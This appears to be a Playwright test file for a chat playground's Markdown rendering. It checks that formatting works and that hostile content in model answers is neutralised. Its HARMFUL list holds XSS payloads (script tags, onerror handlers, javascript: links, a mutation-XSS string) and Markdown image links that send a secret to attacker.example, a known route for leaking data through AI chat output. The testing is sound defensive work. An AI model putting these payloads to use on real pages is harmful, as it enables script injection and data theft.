"""Answers as Markdown: formatting passes, everything that loads, runs or leaves the page does not."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import Route, expect

from tests.browser.playground import Playground

FORMATTED = """# Title

**bold** and *slanted*, `code` and ~~gone~~

1. one
2. two

| a | b |
|---|---|
| 1 | 2 |

```python
print("<b>")
```

[a link](https://example.com/x?a=1&b=2)
"""
HARMFUL = [
    "<img src=x onerror=\"document.title='owned'\">",
    "<script>document.title='owned'</script>",
    "![read](https://attacker.example/?q=secret)",
    "<svg><animate onbegin=\"document.title='owned'\" attributeName=x></svg>",
    "[click](javascript:document.title='owned')",
    "[click](data:text/html,<script>1</script>)",
    "<style>body { display: none }</style>",
    '<p style="position:fixed;inset:0">cover</p>',
    '<form action="https://attacker.example"><input name=q><button>Go</button></form>',
    '<iframe src="https://attacker.example"></iframe>',
    '<a href="https://attacker.example" id="prompt">x</a>',
    "[x]: https://attacker.example/i.png\n\n![x][x]",
    '<div id="send"></div><b name="createElement">clobber</b>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
]


def answer_with(playground: Playground, text: str) -> None:
    """Let every column be answered with ``text``, in two pieces, as the server streams it."""

    def fulfil(route: Route) -> None:
        half = len(text) // 2
        events = [{"choices": [{"index": 0, "delta": {"content": piece}}]} for piece in (text[:half], text[half:])]
        events.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
        body = "".join(f"data: {json.dumps(event)}\n\n" for event in events) + "data: [DONE]\n\n"
        route.fulfill(status=200, content_type="text/event-stream", body=body)

    playground.page.route("**/v1/chat/completions", fulfil)


def test_markdown_is_formatted(playground: Playground) -> None:
    """Headings, emphasis, lists, tables, code and links become elements; a link opens apart and tells no referrer."""
    answer_with(playground, FORMATTED)
    playground.ask("format")
    answer = playground.page.locator(".answer-text").first
    for selector in ("h1", "strong", "em", "del", "ol > li", "table td", "pre > code"):
        expect(answer.locator(selector).first).to_be_visible()
    expect(answer.locator("pre > code")).to_have_text('print("<b>")\n')
    link = answer.get_by_role("link", name="a link")
    expect(link).to_have_attribute("href", "https://example.com/x?a=1&b=2")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(link).to_have_attribute("target", "_blank")


@pytest.mark.parametrize("text", HARMFUL)
def test_an_answer_cannot_load_run_or_cover_anything(playground: Playground, text: str) -> None:
    """HTML that a model writes is text, an image is a link, and no answer asks another host for anything.

    The page's fixture fails the test for every request to another host and every refusal by the policy.
    """
    answer_with(playground, f"before\n\n{text}\n\nafter")
    playground.ask("harm")
    answer = playground.page.locator(".answer-text").first
    expect(answer).to_contain_text("before")
    expect(answer).to_contain_text("after")
    allowed = "p, a, em, strong, code, pre, br, ul, ol, li, table, thead, tbody, tr, th, td, del, blockquote, hr"
    assert answer.evaluate(f"(answer) => answer.querySelectorAll('*:not({allowed})').length") == 0
    for link in answer.locator("a").all():
        assert (link.get_attribute("href") or "https:").startswith("https:")
    attributes = answer.evaluate(
        "(answer) => [...answer.querySelectorAll('*')].flatMap((one) => one.getAttributeNames())"
    )
    assert set(attributes) <= {"href", "target", "rel", "tabindex", "start"}
    assert playground.page.title() == "gemlane playground"


def test_a_raw_answer_is_plain_text(playground: Playground) -> None:
    """In raw mode an answer is shown as it is, Markdown and all."""
    playground.page.route(
        "**/v1/completions",
        lambda route: route.fulfill(
            status=200,
            content_type="text/event-stream",
            body='data: {"choices": [{"index": 0, "text": "**bold** <b>"}]}\n\ndata: [DONE]\n\n',
        ),
    )
    playground.choose_raw()
    assert playground.ask("raw")[0] == "**bold** <b>"
